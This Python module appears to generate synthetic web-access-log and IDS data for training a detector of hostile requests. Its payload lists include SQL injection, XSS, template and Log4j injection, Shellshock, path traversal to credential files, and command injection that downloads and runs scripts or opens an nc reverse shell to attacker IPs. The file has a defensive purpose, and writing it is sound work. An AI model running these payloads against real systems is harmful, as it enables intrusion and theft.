# ruff: noqa: E501  (vocabularies of log content; wrapping them would hide their shape)
"""Compositional vocabularies of hostile web requests, offensive tools and security records.

Each generator combines, at random, small general vocabularies (kinds of probed paths,
traversal encodings, injection payload classes, URL encodings, tool names and versions)
instead of listing whole attack lines, so the model learns what makes a request hostile
(a path nobody serves on purpose, `../` in any encoding, SQL or shell syntax in a
parameter) rather than a fixed set of strings. The pieces come from general knowledge of
web attack techniques and scanners' defaults, not from any evaluation line.

Every function takes the generator's one `random.Random`, so generation stays seeded.
"""

from __future__ import annotations

import random
from collections.abc import Sequence
from typing import TypeVar
from urllib.parse import quote

T = TypeVar("T")


def _pick(rng: random.Random, items: Sequence[T]) -> T:
    return items[rng.randrange(len(items))]


# ---- paths nobody serves on purpose ------------------------------------------------

ADMIN_PANELS = (
    "admin", "administrator", "admin.php", "admin/login.php", "wp-admin/install.php",
    "wp-admin/setup-config.php", "manager/html", "host-manager/html", "phpmyadmin", "phpMyAdmin",
    "pma", "myadmin", "mysqladmin", "dbadmin", "sqladmin", "adminer.php", "adminer", "webadmin",
    "cpanel", "panel", "siteadmin", "admin/config.php", "jmx-console", "web-console",
    "solr/admin/info/system", "console", "system/console", "HNAP1", "boaform/admin/formLogin",
    "cgi-bin/luci", "login.action", "admin/index.php", "backend", "typo3", "administrator/index.php",
    "server-status", "server-info", "_profiler/phpinfo", "telescope/requests", "horizon",
)
DOT_FILES = (
    ".env", ".env.local", ".env.production", ".env.bak", ".env.old", ".env.dev", ".git/config",
    ".git/HEAD", ".git/index", ".git/logs/HEAD", ".gitignore", ".svn/entries", ".svn/wc.db",
    ".hg/hgrc", ".DS_Store", ".htaccess", ".htpasswd", ".aws/credentials", ".ssh/id_rsa",
    ".ssh/authorized_keys", ".docker/config.json", ".vscode/sftp.json", ".npmrc", ".bash_history",
    ".kube/config", ".config/gcloud/credentials.db", ".idea/workspace.xml", ".well-known/../.env",
)
BACKUP_NAMES = ("backup", "site", "db", "dump", "www", "database", "old", "data", "web", "public_html",
                "html", "sql", "wwwroot", "htdocs", "bak", "archive", "export", "latest", "prod")
BACKUP_EXTS = ("zip", "tar.gz", "sql", "sql.gz", "bak", "rar", "7z", "tgz", "tar", "gz", "old")
SOURCE_BACKUPS = ("index.php", "config.php", "wp-config.php", "settings.php", "configuration.php",
                  "config.inc.php", "database.yml", "web.config", "app.config", "local.xml",
                  "config.json", "parameters.yml", "settings.py", "application.properties")
SOURCE_BACKUP_SUFFIXES = (".bak", ".old", ".orig", ".save", ".swp", "~", ".txt", ".1", ".copy", ".dist")
WP_PROBES = (
    "wp-login.php", "xmlrpc.php", "wp-json/wp/v2/users", "wp-includes/wlwmanifest.xml",
    "wp-content/debug.log", "wp-config.php", "wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php",
    "wp-content/plugins/{plugin}/readme.txt", "wp-content/plugins/{plugin}/",
    "wp-content/themes/{plugin}/style.css", "?author=1", "wp-admin/user/", "wp-links-opml.php",
)
WP_PLUGINS = ("revslider", "wp-file-manager", "contact-form-7", "elementor", "duplicator",
              "wpdiscuz", "ultimate-member", "woocommerce", "simple-file-list", "wp-fastest-cache")
CGI_PROBES = ("cgi-bin/test-cgi", "cgi-bin/php", "cgi-bin/php5", "cgi-bin/printenv", "cgi-bin/bash",
              "cgi-bin/status", "cgi-bin/admin.cgi", "cgi-bin/login.cgi", "cgi-bin/test.cgi",
              "cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh",
              "cgi-bin/mainfunction.cgi", "cgi-bin/ViewLog.asp", "setup.cgi", "tmUnblock.cgi")
SHELL_NAMES = ("shell", "cmd", "c99", "r57", "wso", "up", "x", "1", "b374k", "alfa", "indoxploit",
               "webshell", "backdoor", "sh3ll", "leaf", "mini", "fox", "bypass", "uploader", "tmp")
SHELL_EXTS = ("php", "phtml", "php5", "php7", "jsp", "jspx", "aspx", "asp", "cfm", "pl", "cgi")
UPLOAD_DIRS = ("", "uploads", "images", "tmp", "wp-content/uploads", "files", "upload", "media",
               "assets", "wp-content/plugins/{plugin}", "public", "userfiles", "static")
FRAMEWORK_PROBES = (
    "actuator/env", "actuator/heapdump", "actuator/gateway/routes", "vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "_ignition/execute-solution", "debug/default/view", "phpinfo.php", "info.php", "test.php",
    "config.json", "api/.env", "laravel/.env", "storage/logs/laravel.log", "containers/json",
    "api/v1/pods", "v2/_catalog", "debug/pprof/", "druid/index.html", "nacos/v1/auth/users",
    "owa/auth/logon.aspx", "autodiscover/autodiscover.json", "remote/login", "global-protect/login.esp",
    "mifs/.;/services/LogService", "Telerik.Web.UI.WebResource.axd?type=rau", "jenkins/script",
    "struts2-showcase/", "index.action", "invoker/JMXInvokerServlet", "console/css/%252e%252e%252fconsole.portal",
    "ecp/default.flt", "geoserver/web/", "hudson", "sdk", "shell", "setup.php", "install.php",
)
SENSITIVE_TARGETS = (
    "etc/passwd", "etc/shadow", "etc/hosts", "etc/group", "etc/issue", "proc/self/environ",
    "proc/self/cmdline", "proc/version", "windows/win.ini", "Windows/System32/drivers/etc/hosts",
    "boot.ini", "WEB-INF/web.xml", "etc/ssh/sshd_config", "root/.ssh/id_rsa", "var/log/auth.log",
    "etc/nginx/nginx.conf", "usr/local/etc/php.ini", "etc/mysql/my.cnf", "root/.bash_history",
)
# `../` as scanners write it to slip past filters: plain, URL-encoded, double-encoded,
# backslashed, overlong UTF-8, doubled dots.
TRAVERSALS = ("../", "..%2f", "%2e%2e%2f", "%2e%2e/", "..%252f", "..\\", "..%5c", "%2e%2e%5c",
              "%c0%ae%c0%ae/", "....//", ".%2e/", "%252e%252e%252f", "..%c0%af", "..;/", "%2e%2e%2F")


def traversal(rng: random.Random) -> str:
    """`../` repeated 2 to 9 times in one encoding, then a sensitive file."""
    step = _pick(rng, TRAVERSALS)
    target = _pick(rng, SENSITIVE_TARGETS)
    if "%" in step and rng.random() < 0.3:
        target = target.replace("/", "%2f")
    return step * rng.randrange(2, 10) + target


# ---- injection payloads --------------------------------------------------------------

_SQLI = (
    "' OR '1'='1", "' OR 1=1--", "1' OR '1'='1' -- -", "admin'--", "1 AND 1=1", "1' AND SLEEP({n})--",
    "1 AND SLEEP({n})", "1;WAITFOR DELAY '0:0:{n}'--", "1 UNION SELECT NULL,NULL,NULL--",
    "-1 UNION ALL SELECT {cols}--", "1' UNION SELECT username,password FROM users--",
    "1' ORDER BY {n}--", "1 AND extractvalue(1,concat(0x7e,version()))", "1 AND 1=CONVERT(int,@@version)--",
    "1' AND (SELECT {n} FROM (SELECT(SLEEP({n})))a)--", "1) OR (1=1", "' OR ''='", "1 OR benchmark(5000000,md5(1))",
    "1'; DROP TABLE users--", "' AND updatexml(1,concat(0x7e,user()),1)--", "1 AND pg_sleep({n})--",
    "(SELECT CHAR(113)||CHAR(106))", "' UNION SELECT @@version,NULL#", "1' AND 'a'='a", "%' AND 1=0 UNION SELECT table_name FROM information_schema.tables--",
)
_XSS = (
    "<script>alert({n})</script>", "\"><script>alert(document.cookie)</script>", "<img src=x onerror=alert({n})>",
    "\"><svg onload=alert({n})>", "javascript:alert({n})", "<iframe src=javascript:alert({n})>",
    "'-alert({n})-'", "<body onload=alert({n})>", "<svg/onload=prompt({n})>", "\" onmouseover=\"alert({n})",
    "<script src=//{host}/x.js></script>", "<details open ontoggle=alert({n})>", "</script><script>confirm({n})</script>",
)
_CMD = (
    ";id", "|id", "|cat /etc/passwd", "$(whoami)", "`uname -a`", ";wget http://{ip}/x.sh -O /tmp/x.sh;sh /tmp/x.sh",
    "&&curl http://{ip}/a|sh", "%0aid", ";nc -e /bin/sh {ip} 4444", "|ls -la", "$(cat /etc/shadow)",
    ";busybox wget http://{ip}/bins.sh", "||ping -c {n} {ip}", ";echo {n}|base64 -d|sh", "& whoami",
    "; rm -rf /tmp/*; cd /tmp; tftp {ip} -c get t", "|powershell -enc JABjAD0A", "$(sleep {n})",
)
_TEMPLATE = (
    "{{{{7*7}}}}", "${{7*7}}", "<%= 7*7 %>", "#{{7*7}}", "{{{{config.__class__.__init__.__globals__}}}}",
    "${{T(java.lang.Runtime).getRuntime().exec('id')}}", "{{{{''.__class__.__mro__[1].__subclasses__()}}}}",
    "*{{7*7}}", "@(7*7)", "{{{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}}}",
    "${{jndi:ldap://{ip}:1389/a}}", "${{${{lower:j}}ndi:${{lower:l}}dap://{host}/x}}", "%{{(#_='multipart/form-data')}}",
)
_INCLUDE = (
    "php://filter/convert.base64-encode/resource=index.php", "php://input", "expect://id",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", "file:///etc/passwd",
    "http://{ip}/shell.txt?", "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "gopher://127.0.0.1:6379/_FLUSHALL", "http://127.0.0.1:{port}/admin", "//{host}/%2f..",
    "phar://./uploads/x.jpg", "zip://uploads/a.zip%23shell.php",
)
PAYLOAD_CLASSES = {"sqli": _SQLI, "xss": _XSS, "cmd": _CMD, "template": _TEMPLATE, "include": _INCLUDE}
PARAM_NAMES = ("id", "q", "s", "search", "page", "file", "path", "cat", "user", "name", "item", "lang",
               "url", "redirect", "next", "cmd", "exec", "template", "view", "dir", "doc", "include",
               "pid", "product_id", "order", "sort", "filter", "query", "keyword", "host", "ip", "callback")


def _fill(rng: random.Random, text: str) -> str:
    host = _pick(rng, ("evil.example", "attacker.example.net", "x.oast.example", "c2.example.org"))
    ip = f"{rng.randrange(1, 224)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
    cols = ",".join(str(i) for i in range(1, rng.randrange(3, 9)))
    return text.format(n=rng.randrange(1, 12), host=host, ip=ip, cols=cols, port=rng.randrange(80, 9000))


def _case(rng: random.Random, text: str) -> str:
    """SQL keywords in mixed case or with inline comments, as filter-evasion writes them."""
    kind = rng.random()
    if kind < 0.15:
        return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in text)
    if kind < 0.25:
        return text.replace(" ", "/**/")
    return text


def encode_query(rng: random.Random, text: str) -> str:
    """A payload as it reaches an access log: URL-encoded in one of the usual ways, never
    with a raw space or double quote (the log's own quoting would split it)."""
    kind = rng.random()
    if kind < 0.35:
        return quote(text, safe="")
    if kind < 0.55:
        return quote(text, safe="/:=(),'*;$`|&").replace("%20", "+")
    if kind < 0.65:
        return quote(quote(text, safe=""), safe="")  # double-encoded
    if kind < 0.85:
        return text.replace(" ", "+").replace('"', "%22")
    return text.replace(" ", "%20").replace('"', "%22").replace("<", "%3C").replace(">", "%3E")


def payload(rng: random.Random) -> str:
    """One raw (unencoded) injection payload of a random class."""
    cls = _pick(rng, tuple(PAYLOAD_CLASSES))
    text = _fill(rng, _pick(rng, PAYLOAD_CLASSES[cls]))
    if cls == "sqli":
        text = _case(rng, text)
    if cls in ("sqli", "xss") and rng.random() < 0.3:
        text = str(rng.randrange(1, 999)) + text if cls == "sqli" else text
    return text


# ---- ordinary request targets (what most lines of an access log ask for) -------------

ORDINARY_DIRS = ("", "", "api/v1", "api/v2", "static", "assets", "images", "img", "css", "js", "blog",
                 "shop", "products", "account", "docs", "news", "search", "media", "fonts", "about",
                 "help", "category", "en", "de", "user/profile", "cart", "events", "downloads", "p")
ORDINARY_FILES = ("", "index.html", "app.js", "main.css", "style.css", "logo.png", "favicon.ico",
                  "robots.txt", "sitemap.xml", "bundle.min.js", "hero.jpg", "feed", "items", "health",
                  "status", "metrics", "search", "contact", "pricing", "manifest.json", "post-{n}",
                  "article-{n}.html", "v{n}/list", "{n}", "photo_{n}.webp", "report.pdf")
ORDINARY_KEYS = ("page", "q", "sort", "lang", "id", "limit", "offset", "ref", "utm_source", "v",
                 "category", "tag", "size", "color", "from", "to", "format")
ORDINARY_VALUES = ("1", "2", "10", "20", "en", "de", "asc", "desc", "shoes", "red", "news", "json",
                   "summer+sale", "newsletter", "{n}", "2024-05-01", "true", "blue", "home", "x{n}")


def ordinary_path(rng: random.Random) -> str:
    """A request target with nothing hostile in it."""
    d = _pick(rng, ORDINARY_DIRS)
    f = _pick(rng, ORDINARY_FILES).format(n=rng.randrange(1, 9999))
    path = "/" + "/".join(x for x in (d, f) if x)
    if rng.random() < 0.35:
        pairs = [f"{_pick(rng, ORDINARY_KEYS)}={_pick(rng, ORDINARY_VALUES).format(n=rng.randrange(1, 999))}"
                 for _ in range(rng.randrange(1, 4))]
        path += "?" + "&".join(pairs)
    return path


def probe_path(rng: random.Random) -> str:
    """A request target that probes or attacks: scanner paths, traversal, injection,
    shell uploads, sensitive files. Often under an ordinary-looking prefix."""
    plugin = _pick(rng, WP_PLUGINS)
    kind = rng.random()
    prefix = "" if rng.random() < 0.7 else "/" + _pick(rng, ("blog", "site", "wordpress", "wp", "old",
                                                              "new", "test", "api", "app", "backup", "v1"))
    if kind < 0.12:
        return f"{prefix}/{_pick(rng, ADMIN_PANELS)}" + ("/" if rng.random() < 0.2 else "")
    if kind < 0.24:
        return f"{prefix}/{_pick(rng, DOT_FILES)}"
    if kind < 0.32:
        if rng.random() < 0.5:
            return f"{prefix}/{_pick(rng, BACKUP_NAMES)}.{_pick(rng, BACKUP_EXTS)}"
        return f"{prefix}/{_pick(rng, SOURCE_BACKUPS)}{_pick(rng, SOURCE_BACKUP_SUFFIXES)}"
    if kind < 0.40:
        return f"{prefix}/{_pick(rng, WP_PROBES).format(plugin=plugin)}"
    if kind < 0.46:
        return "/" + _pick(rng, CGI_PROBES)
    if kind < 0.54:
        d = _pick(rng, UPLOAD_DIRS).format(plugin=plugin)
        path = f"/{d + '/' if d else ''}{_pick(rng, SHELL_NAMES)}.{_pick(rng, SHELL_EXTS)}"
        if rng.random() < 0.3:
            path += "?" + _pick(rng, ("cmd", "c", "x", "exec", "pass")) + "=" + encode_query(rng, _pick(rng, ("id", "whoami", "uname -a", "ls -la", "cat /etc/passwd")))
        return path
    if kind < 0.62:
        return f"{prefix}/{_pick(rng, FRAMEWORK_PROBES)}"
    if kind < 0.74:
        # Traversal in the path or in a parameter.
        if rng.random() < 0.5:
            base = _pick(rng, ("/", "/static/", "/images/", "/download/", "/files/", "/assets/", "/cgi-bin/", "/icons/"))
            return base + traversal(rng)
        return f"{ordinary_path(rng).split('?')[0]}?{_pick(rng, ('file', 'path', 'page', 'doc', 'template', 'lang', 'include', 'dir', 'f', 'filename'))}={traversal(rng)}"
    # An injection payload in a parameter, beside ordinary ones sometimes.
    key = _pick(rng, PARAM_NAMES)
    query = f"{key}={encode_query(rng, payload(rng))}"
    if rng.random() < 0.3:
        query = f"{_pick(rng, ORDINARY_KEYS)}={_pick(rng, ('1', 'en', '20', 'asc'))}&{query}"
    return f"{ordinary_path(rng).split('?')[0]}?{query}"


# ---- offensive tools' user agents ---------------------------------------------------

_TOOLS = (
    ("sqlmap", "1.{a}.{b}#stable (https://sqlmap.org)"), ("sqlmap", "1.{a}#dev"), ("Nikto", "2.{a}.{b}"),
    ("masscan", "1.{a} (https://github.com/robertdavidgraham/masscan)"), ("zgrab", "0.x"),
    ("gobuster", "3.{a}"), ("feroxbuster", "2.{a}.{b}"), ("Wfuzz", "3.{a}.{b}"), ("ffuf", "v2.{a}.{b}"),
    ("DirBuster", "1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"),
    ("dirsearch", "0.4.{a}"), ("WPScan", "v3.8.{b} (https://wpscan.com/)"), ("Hydra", "9.{a}"),
    ("WhatWeb", "0.5.{a}"), ("Arachni", "v1.{a}.{b}"), ("w3af.org", ""), ("commix", "v3.{a}"),
    ("XSStrike", "3.1.{a}"), ("Nuclei", "v3.{a}.{b}"), ("Jorgee", ""), ("ZmEu", ""), ("Havij", ""),
    ("skipfish", "2.{a}b"), ("OpenVAS-VT", "22.{a}"), ("Acunetix-Product", "WVS/{a}"), ("Netsparker", ""),
    ("BurpSuite", "2023.{a}"), ("httpx", "v1.{a}.{b}"), ("jaeles", "beta-v0.{b}"), ("dirb", "2.2{b}"),
)


def offensive_agent(rng: random.Random) -> str:
    """The User-Agent of a scanner or exploitation tool, in its own or a browser's dress."""
    name, version = _pick(rng, _TOOLS)
    version = version.format(a=rng.randrange(0, 10), b=rng.randrange(0, 30))
    bare = f"{name}/{version}" if version else name
    kind = rng.random()
    if kind < 0.5:
        return bare
    if kind < 0.7:
        return f"Mozilla/5.0 (compatible; {bare})"
    if kind < 0.8:
        return "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
    if kind < 0.9:
        return f"Mozilla/5.00 ({bare}) (Evasions:None) (Test:{rng.randrange(0, 999999):06d})"
    ip = f"{rng.randrange(1, 224)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
    return _pick(rng, ("() { :; }; /bin/bash -c id", "() { :;}; echo; /usr/bin/id",
                       "${jndi:ldap://" + ip + "/a}", "<?php system($_GET['c']); ?>", "' OR 1=1--"))


_BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{s} Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_{s} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "curl/8.{s}.0", "Wget/1.21.{s}", "python-requests/2.{v}.0", "Go-http-client/1.1", "okhttp/4.{s}.0",
    "Apache-HttpClient/4.5.{s} (Java/17.0.8)", "kube-probe/1.{v}", "Prometheus/2.{v}.0", "-",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0",
)


def browser_agent(rng: random.Random) -> str:
    """An ordinary client's User-Agent (browsers, search engines, HTTP libraries, probes)."""
    return _pick(rng, _BROWSERS).format(v=rng.randrange(90, 130), s=rng.randrange(0, 9))


# ---- IDS signatures ----------------------------------------------------------------

_SIG_PREFIX = ("ET", "ET SCAN", "ET EXPLOIT", "ET WEB_SERVER", "ET TROJAN", "ET POLICY", "GPL", "SERVER-WEB",
               "SERVER-OTHER", "MALWARE-CNC", "INDICATOR-SCAN", "OS-LINUX", "OS-WINDOWS", "PROTOCOL-DNS",
               "SQL", "WEB-ATTACKS", "EXPLOIT-KIT", "BROWSER-PLUGINS", "FILE-PDF", "APP-DETECT", "")
_SIG_WHAT = ("SQL Injection", "Directory Traversal", "Command Injection", "Cross Site Scripting",
             "Remote Code Execution", "Brute Force", "Port Scan", "Buffer Overflow", "Shellcode",
             "Webshell Access", "Log4j JNDI Lookup", "Credential Dumping", "Reverse Shell",
             "Suspicious User-Agent", "Known Malicious Host", "Coinminer Pool Connection", "NOOP Sled",
             "Privilege Escalation", "Path Traversal", "LDAP Injection", "XXE", "SSRF", "Deserialization",
             "DNS Tunneling", "Beacon", "Botnet C2 Checkin", "Exploit Kit Landing Page", "Null Session")
_SIG_HOW = ("Attempt", "attempt", "Detected", "detected", "Inbound", "Outbound", "Activity", "Possible",
            "Observed", "Request", "")
_SIG_TARGET = ("", "", " (HTTP)", " via URI", " in User-Agent", " against SMB", " on MSSQL port 1433",
               " CVE-{y}-{n}", " (CVE-{y}-{n})", " to SSH port", " in POST body", " over DNS", " to RDP")


def signature(rng: random.Random) -> str:
    """An IDS/IPS rule's message, composed as rule sets name them."""
    how = _pick(rng, _SIG_HOW)
    what = _pick(rng, _SIG_WHAT)
    phrase = f"{how} {what}" if how in ("Possible", "Inbound", "Outbound", "Observed") else f"{what} {how}"
    target = _pick(rng, _SIG_TARGET).format(y=rng.randrange(2014, 2026), n=rng.randrange(1000, 49999))
    prefix = _pick(rng, _SIG_PREFIX)
    return " ".join(f"{prefix} {phrase.strip()}{target}".split())


CLASSIFICATIONS = (
    "Attempted Administrator Privilege Gain", "Attempted User Privilege Gain", "Potentially Bad Traffic",
    "Attempted Information Leak", "Misc Attack", "Web Application Attack", "Detection of a Network Scan",
    "A Network Trojan was detected", "Executable code was detected", "Attempted Denial of Service",
    "Successful Administrator Privilege Gain", "Misc activity", "Potential Corporate Privacy Violation",
    "access to a potentially vulnerable web application", "Malware Command and Control Activity Detected",
    "Exploit Kit Activity Detected", "Device Retrieving External IP Address Detected",
)


def ids_proto(rng: random.Random) -> str:
    return _pick(rng, ("TCP", "TCP", "TCP", "UDP", "ICMP", "tcp", "udp", "{TCP}", "{UDP}", "6", "17"))


# ---- blocklists --------------------------------------------------------------------

BLOCKLISTS = ("zen.spamhaus.org", "bl.spamcop.net", "b.barracudacentral.org", "dnsbl.sorbs.net",
              "cbl.abuseat.org", "xbl.spamhaus.org", "psbl.surriel.com", "dnsbl-1.uceprotect.net",
              "FireHOL level1", "AbuseIPDB", "emerging-threats", "tor-exit-nodes", "spamhaus-drop",
              "CINS Army", "blocklist.de", "local blacklist", "threat-intel feed", "bad-bots",
              "crowdsec community blocklist", "ipsum", "denylist", "known-attackers")
COUNTRIES = ("CN", "RU", "KP", "IR", "BR", "VN", "IN", "US", "NL", "UA", "RO", "ID", "TR", "PK", "NG")
